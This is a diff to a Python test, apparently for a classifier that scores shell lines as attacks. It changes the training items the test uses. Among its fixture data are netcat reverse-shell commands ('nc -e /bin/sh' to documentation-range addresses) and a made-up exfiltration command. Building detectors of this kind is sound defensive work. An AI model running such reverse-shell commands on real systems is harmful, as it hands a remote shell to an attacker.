@@ -485,7 +485,8 @@ def test_a_feature_weighs_for_an_attack_only_if_several_sets_attacks_hold_it() -
     pytest.importorskip("sklearn", reason="training needs the 'train' extra (scikit-learn)")
     ts: Any = _train_scorer_module()
     items = [ts.Item(g, 1, f"nc -e /bin/sh 203.0.113.{n} 4444") for n, g in enumerate("123")]
-    items += [ts.Item("1", 1, "frobnicate --exfil 203.0.113.5")]  # one set's vocabulary
+    # one set's vocabulary
+    items += [ts.Item("1", 1, f"frobnicate --exfil 203.0.113.{n}") for n in range(10, 40)]
     items += [ts.Item("breadth", 0, line) for line in ("ls -la", "git status", "make test")]
     tr = ts.Trainer(items)
     support = dict(zip(tr.names, tr.attack_support(list(range(len(items)))), strict=True))
